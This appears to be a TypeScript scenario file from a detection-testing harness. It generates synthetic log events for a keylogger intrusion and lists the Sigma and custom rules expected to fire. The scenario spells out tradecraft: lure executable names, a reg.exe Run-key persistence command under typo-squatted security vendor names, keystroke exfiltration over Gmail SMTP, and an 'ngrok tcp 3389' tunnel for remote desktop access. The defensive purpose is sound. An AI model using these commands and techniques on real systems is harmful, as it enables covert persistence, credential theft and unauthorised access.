import { NO_META } from '../catalog.js';
import { Clock, need, SYS32, uniqueHashes, type Story, type StoryKit } from './kit.js';
import { RULES, SIGMA } from './rules.js';

const LURES = [
  'Invoice_{n}.exe',
  'scan{n}.exe',
  'payment_copy_{n}.exe',
  'KMSAuto_{n}.exe',
  'DHL_label_{n}.exe',
];
/** Security vendors' names with a typo, each one the rule's list knows. */
const VALUES = [
  'TrendMicr0Update',
  'SymantacAgent',
  'MacAfeeUpdate',
  'KaspersyTray',
  'SopohsHealth',
  'WindowsDefendr',
  'BitDefnderSvc',
  'CrowdStrikeFalcn',
];
const NGROK_HOME = [
  'C:\\ProgramData\\Microsoft\\DeviceSync',
  'C:\\Users\\Public\\Libraries',
  'C:\\ProgramData\\USOShared\\Logs',
];

/**
 * The ngrok case: a downloaded lure fetches a keylogger from an ngrok URL and plants it in
 * System32 under a random name; the keylogger registers itself under a Run value named like a
 * security product (with a typo), mails keystrokes through Gmail's SMTP, and starts an ngrok TCP
 * tunnel to Remote Desktop, through which the intruder logs on as the victim.
 */
function play(kit: StoryKit) {
  const { r, world, win, flat } = kit;
  const host = need(world.reserveHost(r, ['workstation']), 'workstations');
  const account = world.reserveAccount(world.primaryUser.get(host)!);
  const u = account.name;
  const clock = new Clock(r, kit.start);
  const who = win.session(host, account, kit.start - r.int(30, 240) * 60_000);
  const explorer = win.running(
    host,
    'C:\\Windows\\explorer.exe',
    'C:\\Windows\\Explorer.EXE',
    who,
    kit.start - 3_600_000,
  );

  const lureName = r.pick(LURES).replace('{n}', String(r.int(1000, 99999)));
  const lurePath = `C:\\Users\\${u}\\Downloads\\${lureName}`;
  const lure = win.spawn(clock.t, explorer, lurePath, `"${lurePath}"`, {
    who: win.elevated(who),
    hashes: uniqueHashes(kit, 'lure'),
    meta: NO_META,
    cwd: `C:\\Users\\${u}\\Downloads\\`,
  });
  const stage = `${r.hex(4)}-${r.int(10, 250)}-${r.int(10, 250)}-${r.int(1, 250)}-${r.int(1, 250)}.ngrok-free.app`;
  const edge = kit.world.freshIp(r, ['3.125', '3.124', '18.192', '18.158']);
  win.dns(clock.step(1, 4), lure, stage, [edge]);
  win.connect(clock.step(0, 1), lure, { ip: edge, port: 443, hostname: stage });
  flat.conn(
    clock.t + 300,
    host,
    { ip: edge, port: 443 },
    { out: r.int(400, 900), in: r.int(180_000, 900_000) },
  );

  const keylogger = `${SYS32}\\${r.alnum(r.int(10, 14))}.exe`;
  win.file(clock.step(5, 30), lure, keylogger);
  const kl = win.spawn(clock.step(1, 5), lure, keylogger, `"${keylogger}"`, {
    hashes: uniqueHashes(kit, 'keylogger'),
    meta: NO_META,
    cwd: `${SYS32}\\`,
  });
  const value = r.pick(VALUES);
  const reg = win.spawn(
    clock.step(2, 10),
    kl,
    `${SYS32}\\reg.exe`,
    `reg.exe ADD HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v ${value} /t REG_SZ /d ${keylogger} /f`,
  );
  win.registry(
    clock.step(0, 1),
    reg,
    `HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\${value}`,
    keylogger,
  );

  const gmail = [
    kit.world.freshIp(r, ['142.250', '74.125', '64.233']),
    kit.world.freshIp(r, ['142.250', '74.125']),
  ];
  const exfiltrate = () => {
    win.dns(clock.step(300, 900), kl, 'smtp.gmail.com', gmail);
    const ip = r.pick(gmail);
    win.connect(clock.step(0, 2), kl, { ip, port: 587, hostname: 'smtp.gmail.com' });
    flat.conn(
      clock.t + 800,
      host,
      { ip, port: 587, service: 'smtp' },
      { out: r.int(3000, 40_000), in: r.int(800, 2000) },
    );
  };
  exfiltrate();

  const home = r.pick(NGROK_HOME);
  const ngrokPath = `${home}\\ngrok.exe`;
  win.file(clock.step(60, 600), kl, ngrokPath);
  const tunnelHashes = uniqueHashes(kit, 'ngrok');
  const ngrokMeta = {
    FileVersion: '3.5.0',
    Description: 'ngrok agent',
    Product: 'ngrok',
    Company: 'ngrok, Inc.',
    OriginalFileName: 'ngrok.exe',
  };
  win.spawn(clock.step(5, 30), kl, ngrokPath, `${ngrokPath} authtoken ${r.upper(27)}_${r.upper(21)}`, {
    hashes: tunnelHashes,
    meta: ngrokMeta,
    cwd: `${home}\\`,
  });
  const region = r.pick(['us', 'eu', 'ap']);
  const ngrok = win.spawn(clock.step(3, 20), kl, ngrokPath, `${ngrokPath} tcp 3389 --region ${region}`, {
    hashes: tunnelHashes,
    meta: ngrokMeta,
    cwd: `${home}\\`,
  });
  const tunnel = `tunnel.${region}.ngrok.com`;
  const tunnelIp = kit.world.freshIp(r, ['3.134', '3.20', '52.14']);
  win.dns(clock.step(1, 3), ngrok, tunnel, [tunnelIp]);
  win.connect(clock.step(0, 1), ngrok, { ip: tunnelIp, port: 443, hostname: tunnel });
  flat.conn(
    clock.t + 300,
    host,
    { ip: tunnelIp, port: 443 },
    { out: r.int(90_000, 900_000), in: r.int(900_000, 9_000_000) },
  );
  exfiltrate();

  // The intruder comes in through the tunnel as the victim: the session's source is ngrok's loopback.
  const rdp = win.session(host, account, clock.step(300, 1500), false, 2);
  win.logon(clock.t, host, rdp, { type: 10, ip: '::1', workstation: host.short, kerberos: false });
  win.rdpSession(clock.step(1, 3), host, rdp, '::%16777216');
  exfiltrate();
  return { hosts: [host] };
}

export const ngrok: Story = {
  name: 'ngrok',
  title:
    'Keylogger in System32 with a vendor-named Run key, mailing through Gmail, reached over an ngrok tunnel',
  expectedRules: [
    RULES.system32ExeWritten,
    RULES.system32RandomName,
    RULES.runKeyVendorName,
    RULES.dnsGmailSmtp,
    RULES.smtpToGmail,
    SIGMA.ngrokDomain,
    SIGMA.ngrokTunnel,
    SIGMA.ngrokExecution,
    SIGMA.ngrokRdp,
    SIGMA.rdpFromLocalhost,
    SIGMA.runKeyRegExe,
    SIGMA.autorunCurrentVersion,
    SIGMA.autorunDirect,
    SIGMA.outboundSmtp,
  ],
  play,
};
